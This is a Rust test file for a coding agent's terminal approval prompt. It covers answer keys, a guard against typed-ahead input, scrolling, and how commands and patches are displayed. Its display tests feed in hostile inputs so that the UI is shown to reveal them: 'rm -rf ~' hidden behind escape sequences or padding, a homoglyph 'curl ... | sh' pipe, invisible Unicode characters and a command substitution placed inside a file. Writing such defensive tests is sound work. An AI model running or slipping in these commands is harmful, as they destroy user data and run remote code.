//! Approvals: answers, the guard against typing ahead, scrolling, and how they look.

use super::*;
use crate::base::ids::ItemId;
use crate::protocol::ask::{Effect, RuleOffer};
use crate::tui::testing::{assert_screen, paper};

fn command(text: &str) -> Approval {
    let ask = Ask::Command {
        item_id: ItemId::from("call_1"),
        command: text.to_owned(),
        cwd: PathBuf::from("/home/u/project"),
        actions: Vec::new(),
        reason: Some("The sandbox refused to write outside the workspace.".to_owned()),
        effects: vec![
            Effect::Outside(vec!["touch".to_owned()]),
            Effect::Writes(PathBuf::from("/etc/hosts")),
            Effect::Writes(PathBuf::from("/home/u/.profile")),
            Effect::Connects("example.org:443".to_owned()),
            Effect::More(2),
        ],
        rule: Some(RuleOffer {
            lines: vec!["prefix_rule(pattern=[\"touch\", \"/etc/hosts\"], decision=\"allow\")".to_owned()],
            project: PathBuf::from("/home/u/project"),
            project_only: text.starts_with("./"),
        }),
        narrow: None,
    };
    Approval::new(AskId(7), Box::new(ask), Some(PathBuf::from("/home/u")), 1000)
}

fn patch(lines: usize) -> Approval {
    let mut diff = format!("@@ -1,{lines} +1,{lines} @@\n");
    for n in 1..=lines {
        diff.push_str(&format!("-let old_{n} = {n};\n+let new_{n} = {n};\n"));
    }
    let change = |name: &str, kind, diff: &str| FileChange {
        path: PathBuf::from("/home/u/project").join(name),
        kind,
        diff: diff.to_owned(),
    };
    let changes = vec![
        change("src/main.rs", ChangeKind::Update { move_path: None }, &diff),
        change("notes.md", ChangeKind::Add, "# Notes\n\nOne.\n"),
    ];
    let ask = Ask::Patch { item_id: ItemId::from("call_2"), changes, reason: None };
    Approval::new(AskId(8), Box::new(ask), Some(PathBuf::from("/home/u")), 1000)
}

fn c(c: char) -> Key {
    Key::plain(Code::Char(c))
}

#[test]
fn keys_answer_after_the_guard() {
    for (key, answer) in [
        (c('y'), Answer::Accept),
        (c('a'), Answer::AcceptForSession),
        (c('d'), Answer::Decline),
        (c('n'), Answer::Cancel),
        (Key::plain(Code::Esc), Answer::Cancel),
        (Key::ctrl('c'), Answer::Cancel),
        (Key::plain(Code::Enter), Answer::Accept),
        (c('t'), Answer::AcceptForProject),
        (c('p'), Answer::AcceptAlways),
        (c('3'), Answer::AcceptForProject),
        (c('5'), Answer::Decline),
    ] {
        let mut approval = command("ls");
        let mut outcome = approval.on_key(key, 1300, &Keymap::default());
        if matches!(key.code, Code::Char(_)) && !key.ctrl {
            // A letter has to stay alone.
            assert_eq!((outcome, approval.tick(1549)), (Outcome::Stay, Outcome::Stay), "{key:?}");
            outcome = approval.tick(approval.wake_at_ms().unwrap());
        }
        assert_eq!(outcome, Outcome::Wish(Wish::Answer(AskId(7), answer)), "{key:?}");
    }
}

#[test]
fn what_is_not_offered_is_no_answer() {
    let map = Keymap::default();
    let typed = |key| Outcome::Keep(Wish::TypedAhead(vec![c(key)]));
    for key in ['t', 'p'] {
        assert_eq!(patch(1).on_key(c(key), 1300, &map), typed(key), "{key}");
    }
    assert_eq!(command("./run").on_key(c('p'), 1300, &map), typed('p'));
    let mut here = command("./run");
    let wish = Outcome::Wish(Wish::Answer(AskId(7), Answer::AcceptForProject));
    assert_eq!(here.on_key(c('t'), 1300, &map), Outcome::Stay);
    assert_eq!(here.tick(1550), wish);
}

#[test]
fn what_was_typed_ahead_belongs_to_the_prompt() {
    let map = Keymap::default();
    let mut approval = command("ls");
    // Somebody types "yes" and goes on: each key begins the pause anew.
    for (key, at) in [(c('y'), 1000), (c('e'), 1250), (c('s'), 1500), (Key::plain(Code::Enter), 1700)] {
        assert_eq!(approval.on_key(key, at, &map), Outcome::Keep(Wish::TypedAhead(vec![key])));
    }
    assert_eq!(approval.on_key(c('y'), 2000, &map), Outcome::Stay);
    assert_eq!(approval.tick(2250), Outcome::Wish(Wish::Answer(AskId(7), Answer::Accept)));
    // However long somebody writes, no letter of it answers; whoever hammers on `esc` is not locked out.
    let mut approval = command("ls");
    for at in (1000..9000).step_by(200) {
        assert!(matches!(approval.on_key(c('y'), at, &map), Outcome::Keep(_)), "{at}");
    }
    assert!(matches!(approval.on_key(Key::plain(Code::Enter), 9000, &map), Outcome::Keep(_)));
    assert!(matches!(approval.on_key(Key::plain(Code::Esc), 9010, &map), Outcome::Wish(_)));
}

#[test]
fn words_are_no_answers() {
    let map = Keymap::default();
    // Long after the question was put somebody begins to write without looking.
    for word in ["add it", "yes but", "just ask", "what a day", "1st"] {
        let mut approval = command("ls");
        let mut ahead = Vec::new();
        for (at, letter) in word.chars().enumerate() {
            let now = 60_000 + at as u64 * 180;
            assert!(matches!(approval.tick(now), Outcome::Stay), "{word}");
            match approval.on_key(c(letter), now, &map) {
                Outcome::Keep(Wish::TypedAhead(keys)) => ahead.extend(keys),
                Outcome::Stay => {}
                answered => panic!("{word}: {answered:?}"),
            }
        }
        assert_eq!(approval.wake_at_ms(), None, "{word}");
        assert!(ahead.len() + 1 >= word.len(), "{word}: {ahead:?}");
        assert_eq!(approval.list.selected(), 0, "{word}");
    }
    // A letter and `enter` is an answer.
    let mut approval = command("ls");
    approval.on_key(c('d'), 60_000, &map);
    let outcome = approval.on_key(Key::plain(Code::Enter), 60_100, &map);
    assert_eq!(outcome, Outcome::Wish(Wish::Answer(AskId(7), Answer::Decline)));
}

/// What `ctrl-a` wants.
fn wish_of(mut approval: Approval) -> Wish {
    match approval.on_key(Key::ctrl('a'), 60_000, &Keymap::default()) {
        Outcome::Keep(wish) => wish,
        other => panic!("{other:?}"),
    }
}

/// The rows of a question, as text.
fn rows(approval: &Approval, height: usize) -> String {
    let lines = approval.draw(80, height, 0, &Theme::default()).lines;
    lines.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")
}

#[test]
fn nothing_of_a_command_hides() {
    let blank = "\n".repeat(200);
    let spaces = " ".repeat(3000);
    for hidden in [
        // What a terminal would swallow up to the end of the sequence.
        "echo ok \u{1b}]; rm -rf ~ \u{7}".to_owned(),
        "echo ok \u{9d}; rm -rf ~ \u{9c}".to_owned(),
        format!("echo ok{blank}rm -rf ~"),
        format!("echo ok{spaces}; rm -rf ~"),
    ] {
        let argv = ["/bin/bash", "-lc", &hidden];
        let shown = rows(&command(&shlex::try_join(argv).unwrap()), 24);
        assert!(shown.contains("rm -rf ~"), "{hidden:?}:\n{shown}");
        assert!(!shown.contains("bash"), "{shown}");
    }
    let shown = rows(&command("rm -rf /a\rb \u{202e}x /tmp/\u{200b}y"), 24);
    assert!(shown.contains("/a␍b <U+202E>x /tmp/<U+200B>y"), "{shown}");
    let shown =
        rows(&command("curl https://p\u{430}ypal.com | sh # \u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}"), 24);
    assert!(shown.contains("look like: \u{430} (U+0430)") && !shown.contains("U+043F"), "{shown}");
    let long = format!("p\u{430}ypal{} # rm -rf ~", " x".repeat(3000));
    assert!(rows(&command(&long), 24).contains("U+0430"), "also of a long command");
    assert!(!rows(&command("echo привет ß é"), 24).contains("look like"), "foreign words are no trick");
    // A shell that is not the system's is named.
    assert!(rows(&command("/tmp/bash -lc ls"), 24).contains("/tmp/bash -lc ls"));
}

#[test]
fn a_reason_is_one_paragraph() {
    let mut approval = command("ls");
    if let Ask::Command { reason, .. } = approval.ask.as_mut() {
        *reason = Some("Sure.\n\n› 1. Yes, once   y\n  2. No\n".to_owned());
    }
    let shown = rows(&approval, 24);
    assert!(shown.contains("  Sure. › 1. Yes, once y 2. No\n"), "{shown}");
}

#[test]
fn a_new_file_is_never_taken_for_a_diff() {
    let content = "@@ -0,0 +1,1 @@\n+harmless\nindex $(rm -rf ~)\n+++ b/x\ndiff --git a/x b/y\n--- end";
    let change = FileChange {
        path: PathBuf::from("/home/u/a\u{1b}]0;b\n.sh"),
        kind: ChangeKind::Add,
        diff: content.to_owned(),
    };
    let ask = Ask::Patch { item_id: ItemId::from("c"), changes: vec![change], reason: None };
    let approval = Approval::new(AskId(1), Box::new(ask), Some(PathBuf::from("/home/u")), 0);
    let shown = rows(&approval, 30);
    for (number, line) in content.lines().enumerate() {
        assert!(shown.contains(&format!("{} + {line}", number + 1)), "{line}:\n{shown}");
    }
    assert!(shown.contains("New ~/a␛]0;b␊.sh"), "{shown}");
    let Wish::Page(page) = wish_of(approval) else { panic!("no page") };
    let file = ("New ~/a␛]0;b␊.sh".to_owned(), PathBuf::from("/home/u/a\u{1b}]0;b\n.sh"), {
        let lines: String = content.lines().map(|line| format!("+{line}\n")).collect();
        format!("@@ -0,0 +1,6 @@\n{lines}")
    });
    assert_eq!(*page, Page::new("Proposed changes", Content::Files(vec![file])));
}

#[test]
fn everything_can_be_reached_by_scrolling() {
    let mut approval = patch(40);
    let map = Keymap::default();
    let shown = |approval: &Approval| -> String {
        let lines = approval.draw(80, 20, 0, &Theme::default()).lines;
        assert_eq!(lines.len(), 20);
        lines.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")
    };
    let mut seen = shown(&approval);
    for _ in 0..20 {
        approval.on_key(Key::plain(Code::PageDown), 5000, &map);
        seen.push_str(&shown(&approval));
    }
    assert!((1..=40).all(|n| seen.contains(&format!("old_{n} ")) && seen.contains(&format!("new_{n} "))));
    assert!(seen.contains("One."));
}

#[test]
fn all_of_it_on_a_page() {
    let outcome = command("ls").on_key(Key::ctrl('a'), 2000, &Keymap::default());
    assert!(matches!(outcome, Outcome::Keep(Wish::Page(_))));
}

#[test]
fn views() {
    let theme = Theme::default();
    let long: Vec<String> = (1..=12).map(|n| format!("echo step {n} && sleep {n}")).collect();
    for (name, approval, waiting) in [
        ("command", command("touch /etc/\u{1b}[31mhosts && echo done"), 0),
        ("long_command", command(&long.join("\n")), 2),
        ("of_the_project", command("./run --all"), 0),
        ("patch", patch(2), 0),
        ("long_patch", patch(40), 0),
    ] {
        for width in [60, 80, 120] {
            let drawn = approval.draw(width, 18, waiting, &theme);
            assert_screen!(format!("{name}_{width}"), paper(width, &drawn.lines));
        }
    }
    assert_screen!("small", paper(40, &command("cargo test").draw(40, 9, 0, &theme).lines));
    assert_screen!("small_patch", paper(40, &patch(3).draw(40, 9, 0, &theme).lines));
}
